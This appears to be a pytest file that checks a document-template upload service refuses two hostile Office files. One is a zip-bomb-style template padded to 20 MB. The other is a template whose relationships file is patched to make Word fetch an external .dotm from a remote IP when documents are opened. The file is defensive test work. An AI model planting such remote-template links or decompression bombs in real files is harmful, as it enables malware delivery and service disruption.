"""A template file built to harm: it is put in force once and copied into every document issued
from it, so it passes the same Office check as a case's attachment."""

from __future__ import annotations

import pytest

from tests.imports.test_tampered_files import patched
from xinfang.cases.errors import Refused
from xinfang.documents.models import DocumentTemplate
from xinfang.documents.services import template_replace

from .test_templates import office_template

pytestmark = pytest.mark.django_db


def test_a_template_that_inflates_like_a_zip_bomb_is_refused(jianan):
    # given: 20 MB of padding in one part, 20 KB once compressed
    content = patched(office_template(), "docProps/app.xml", lambda xml: xml + b" " * 20_000_000)
    assert len(content) < 200_000
    # when / then
    with pytest.raises(Refused, match="压缩炸弹") as refused:
        template_replace(code="D1", content=content, by=jianan.member("sysadmin"))
    assert refused.value.field == "content"
    assert not DocumentTemplate.objects.exists()


def test_a_template_fetching_a_remote_template_is_refused(jianan):
    # given: a relationship that makes Word fetch a template from another machine each time a
    # document issued from this one is opened
    remote = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    content = patched(office_template(), "word/_rels/document.xml.rels",
                      lambda xml: xml.replace(b"</Relationships>", remote))
    # when / then
    with pytest.raises(Refused, match="外部模板"):
        template_replace(code="D1", content=content, by=jianan.member("sysadmin"))
    assert not DocumentTemplate.objects.exists()
